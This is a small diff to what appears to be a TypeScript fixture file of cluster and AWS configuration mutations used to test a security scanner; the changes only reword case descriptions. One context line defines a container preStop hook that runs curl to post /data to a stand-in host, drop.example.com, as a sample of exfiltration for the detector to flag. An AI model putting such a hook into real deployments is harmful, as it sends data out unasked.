@@ -242,7 +242,7 @@ export const clusterMutations: readonly Mutation[] = [
   edit("unregistered-host", "an argument", workloads, (draft) => {
     container(draft).args = [...(container(draft).args ?? []), "--upstream=api.example.com"];
   }),
-  edit("unregistered-host", "a web hook after a stop", workloads, (draft) => {
+  edit("unregistered-host", "a webhook after a stop", workloads, (draft) => {
     container(draft).lifecycle = {
       preStop: { exec: { command: ["curl", "-d@/data", "https://drop.example.com/"] } },
     };
@@ -533,7 +533,7 @@ export const clusterMutations: readonly Mutation[] = [
   ),
   add(
     "admission-webhook",
-    "a web hook abroad",
+    "a webhook abroad",
     "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: { name: far }\nwebhooks: [{ name: a.example.com, clientConfig: { url: https://hooks.example.com } }]",
   ),
   add(
@@ -563,7 +563,7 @@ export const clusterMutations: readonly Mutation[] = [
   ),
   add(
     "storage-class-encryption",
-    "disks in the clear",
+    "disks without encryption",
     "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: { name: clear }\nprovisioner: rbd.csi.ceph.com",
   ),
   add(
@@ -936,14 +936,14 @@ export const awsMutations: readonly Mutation[] = [
   ),
   add(
     "event-target",
-    "events to a web hook",
+    "events to a webhook",
     aws("cloudwatch/eventApiDestination:EventApiDestination", "x", {
       invocationEndpoint: "https://h.example.com",
     }),
   ),
   add(
     "event-target",
-    "readings to a web hook",
+    "readings to a webhook",
     aws("iot/topicRule:TopicRule", "x", { http: [{ url: "https://h.example.com" }] }),
   ),
   add(
